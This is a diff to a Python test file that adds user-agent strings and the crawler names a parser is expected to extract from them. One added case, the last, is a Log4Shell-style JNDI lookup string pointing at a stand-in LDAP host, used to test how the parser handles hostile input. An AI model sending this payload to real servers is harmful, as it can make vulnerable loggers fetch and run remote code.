@@ -117,6 +117,20 @@ def test_words_that_people_have_too(pattern: str) -> None:
         (b"Mozilla/5.0 (X11; MyOwnBot; https://me.example)", Robot("MyOwnBot", "crawler")),
         (b"MyOwnBot", Robot("MyOwnBot", "crawler")),
         (b"pulsepoint Pulsepoint x", Robot("Pulsepoint", "crawler")),
+        (b"AcmeReport/2.1 (ops@acme.example)", Robot("AcmeReport", "crawler")),
+        (b"Acme Status 2.0", Robot("Acme Status 2.0", "crawler")),
+        (b"Mozilla/5.0 (compatible; AcmeReport/1.0) AppleWebKit/537.36 Chrome/124.0", Robot("AcmeReport", "crawler")),
+        (
+            b"Mozilla/5.0 (X11) AppleWebKit/537.36 Chrome/120 (+https://acme.example/x)",
+            Robot("acme.example", "crawler"),
+        ),
+        (b"Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/142.0 AcmeChecker", Robot("AcmeChecker", "crawler")),
+        (
+            b"Mozilla/5.0 (Macintosh) AppleWebKit/537.36 (KHTML, like Gecko; Acme Status) Safari/9",
+            Robot("Acme Status", "crawler"),
+        ),
+        (b"Mozilla/5.0 AcmeStatus", Robot("AcmeStatus", "crawler")),
+        (b"${jndi:ldap://acme.example/x}", Robot("Robot", "crawler")),
     ],
 )
 def test_names(user_agent: bytes, robot: Robot) -> None:
